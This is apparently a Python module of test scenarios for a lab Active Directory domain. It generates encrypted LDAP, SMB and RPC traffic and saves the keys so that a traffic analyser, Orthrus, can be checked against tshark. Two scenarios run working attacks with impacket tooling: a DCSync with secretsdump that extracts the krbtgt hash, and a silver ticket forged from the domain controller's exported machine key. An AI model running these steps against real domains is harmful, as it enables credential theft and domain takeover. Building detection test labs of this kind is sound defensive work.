"""sealed - scenarios whose traffic is encrypted, recorded with the domain's keys beside them (NAME.keytab).

The keys are those of the laboratory's domain at the end of the scenario, every one of them made for it and of no use
anywhere else. With them tshark and Orthrus must read the same.
"""
import os

from directory import ADMIN, ADMIN_PASSWORD, DNS_DOMAIN, DOMAIN, DOMAIN_SID, REALM, USERS
from lab import KRB5_CONF
from scenarios import ATTACKER, DC1, DC1_NAME, HERE, IMPACKET, finding, must_hold, scenario, start_workstations, ticket

PEOPLE = "OU=People,DC=lab,DC=orthrus,DC=example"
RC4_ONLY = """ default_tkt_enctypes = arcfour-hmac
 default_tgs_enctypes = arcfour-hmac
 permitted_enctypes = arcfour-hmac
 allow_weak_crypto = true
"""
KERBEROS, NTLM = ["--use-kerberos=required"], ["--use-kerberos=off"]
USER = "klarsen"
LOGON = ["-U", "%s/%s%%%s" % (DOMAIN, USER, USERS[USER][3])]


def with_rc4(lab, name, user):
    """A second Kerberos configuration on that host, which takes RC4 only, with a ticket of its own."""
    host = lab.hosts[name]
    conf, cache = host.path("krb5-rc4.conf"), host.path("ccache-rc4")
    text = KRB5_CONF.format(realm=REALM, folder=host.folder)
    host.write("krb5-rc4.conf", text.replace("[libdefaults]\n", "[libdefaults]\n" + RC4_ONLY))
    environment = {"KRB5_CONFIG": conf, "KRB5CCNAME": "FILE:" + cache}
    host.run(["kinit", user], USERS[user][3] + "\n", **environment)
    return environment


def search(host, mechanism, account, *options, **environment):
    out = host.run(["ldapsearch", "-N", "-Q", "-Y", mechanism, "-H", "ldap://" + DC1_NAME, "-b", PEOPLE] +
                   list(options) + ["(sAMAccountName=%s)" % account, "mail", "department"], **environment)
    must_hold(out, "numEntries: 1", "ldapsearch")


@scenario("directory searches in every protection", "kinit, ldapsearch, samba-tool",
          "klarsen searches the directory by GSSAPI and GSS-SPNEGO, signed and sealed, with AES and RC4, and by NTLM.",
          [("binds by SASL", "ldap.mechanism", 8, None)], before=start_workstations)
def sealed_ldap(lab):
    host = lab.ws2
    ticket(lab, "ws2", USER)
    search(host, "GSSAPI", "nnovak")
    search(host, "GSSAPI", "abecker", "-O", "minssf=1,maxssf=1")
    search(host, "GSS-SPNEGO", "bdiaz")
    rc4 = with_rc4(lab, "ws2", USER)
    search(host, "GSSAPI", "cevans", **rc4)
    search(host, "GSSAPI", "dfontaine", "-O", "minssf=1,maxssf=1", **rc4)
    for protection in ("seal", "sign"):
        for logon in (KERBEROS, NTLM + LOGON):
            host.run(["samba-tool", "user", "show", "egarcia", "-H", "ldap://" + DC1_NAME,
                      "--option=client ldap sasl wrapping=" + protection] + logon)


@scenario("shares read by encrypted SMB 3", "smbclient",
          "klarsen reads and writes files by SMB 3.0, 3.0.2 and 3.1.1 with each of the four ciphers, by Kerberos and NTLM.",
          [("encrypted messages", "smb2.header.transform.signature", 40, None)], before=start_workstations)
def sealed_smb(lab):
    ticket(lab, "ws2", USER)

    def use(*options, logon=None, **environment):
        lab.ws2.run(["smbclient", "//%s/files" % DC1_NAME, "--client-protection=encrypt", "-c",
                     "ls; get readme.txt /dev/null; put /etc/hosts sealed.txt; rename sealed.txt opened.txt; "
                     "rm opened.txt"] + list(options) + (logon or KERBEROS), **environment)

    for cipher in ("AES-128-GCM", "AES-128-CCM", "AES-256-GCM", "AES-256-CCM"):
        use("--option=client smb3 encryption algorithms=" + cipher)
    use("-m", "SMB3_00")
    use("-m", "SMB3_02")
    use(**with_rc4(lab, "ws2", USER))
    use(logon=NTLM + LOGON)
    use("-m", "SMB3_02", logon=NTLM + LOGON)


@scenario("remote calls with sealed arguments", "rpcclient, net, wbinfo, impacket",
          "klarsen and Administrator ask SAMR, LSARPC and DRSUAPI over TCP and pipes, sealed and signed, by Kerberos with AES "
          "and RC4 and by NTLM; ws2 tests its secure channel.",
          [("calls", "dcerpc.pkt_type == 0 && dcerpc.auth_level == 6", 10, None),
           ("calls of a secure channel", "dcerpc.auth_type == 68", 1, None)],
          [finding("dcsync", ATTACKER, ADMIN, ["krbtgt"], "success")], before=start_workstations)
def sealed_rpc(lab):
    host = lab.ws2
    ticket(lab, "ws2", USER)

    def ask(binding, logon, *commands, **environment):
        host.run(["rpcclient", binding % DC1_NAME, "-c", "; ".join(commands)] + logon, **environment)

    names = ("lookupnames nnovak Engineering", "lookupsids %s-500" % DOMAIN_SID)
    users = ("querydominfo", "queryuser 500", "enumdomgroups")
    ask("ncacn_ip_tcp:%s[seal,krb5]", KERBEROS, *users)
    ask("ncacn_np:%s[seal,spnego]", KERBEROS, *names)
    ask("ncacn_ip_tcp:%s[sign,krb5]", KERBEROS, *users)
    ask("ncacn_np:%s[seal,krb5]", KERBEROS, *users)
    rc4 = with_rc4(lab, "ws2", USER)
    ask("ncacn_ip_tcp:%s[seal,krb5]", KERBEROS, *users, **rc4)
    ask("ncacn_ip_tcp:%s[sign,krb5]", KERBEROS, *users, **rc4)
    ask("ncacn_ip_tcp:%s[seal,ntlm]", NTLM + LOGON, *users)
    ask("ncacn_np:%s[seal,spnego]", NTLM + LOGON, *names)
    ask("ncacn_ip_tcp:%s[sign,ntlm]", NTLM + LOGON, *users)
    host.run(["wbinfo", "-t"])
    host.run(["wbinfo", "-n", "mweber"], ok=None)
    lab.attacker.run(["kinit", "-f", "-r", "1d", ADMIN], ADMIN_PASSWORD + "\n")
    tool = ["/usr/bin/python3", os.path.join(HERE, "attack.py"), "tool", os.path.join(IMPACKET, "secretsdump.py")]
    out = lab.attacker.run(tool + ["-k", "-no-pass", "-just-dc-user", DOMAIN + "/krbtgt", "-dc-ip", DC1, "-target-ip", DC1,
                                   "%s/%s@%s" % (REALM, ADMIN, DC1_NAME)])
    must_hold(out, "krbtgt:502:", "secretsdump -k")


def service_key(lab):
    """The AES key of dc1's own account, as an attacker would have stolen it."""
    path = lab.dc1.path("stolen.keytab")
    lab.dc1.run(["samba-tool", "domain", "exportkeytab", path, "--principal=DC1$"])
    out = lab.dc1.run(["klist", "-k", "-K", "-e", path])
    keys = [line.rsplit("(0x", 1)[1].rstrip(")") for line in out.splitlines() if "aes256" in line]
    return keys[-1]


@scenario("a forged service ticket", "impacket-ticketer, impacket-smbclient",
          "With the key of dc1's account a ticket for its file service is forged (silver ticket) and shown; the KDC never made "
          "it, so the KDC's signature in its PAC is none. ticketer writes key version 2 whatever the key's is, so dc1 refuses.",
          [("no TGS-REP", "kerberos.msg_type == 13", 0, 0), ("AP-REQ", "kerberos.msg_type == 14", 1, None)])
def silver_ticket(lab):
    tool = ["/usr/bin/python3", os.path.join(HERE, "attack.py"), "tool"]
    lab.attacker.run(tool + [os.path.join(IMPACKET, "ticketer.py"), "-aesKey", service_key(lab), "-domain-sid", DOMAIN_SID,
                             "-domain", REALM, "-spn", "cifs/" + DC1_NAME, "-user-id", "500", ADMIN])
    lab.attacker.run(tool + [os.path.join(IMPACKET, "smbclient.py"), "-k", "-no-pass", "-target-ip", DC1, "-dc-ip", DC1,
                             "%s/%s@%s" % (REALM, ADMIN, DC1_NAME)], "shares\nexit\n",
                     KRB5CCNAME=lab.attacker.path(ADMIN + ".ccache"))
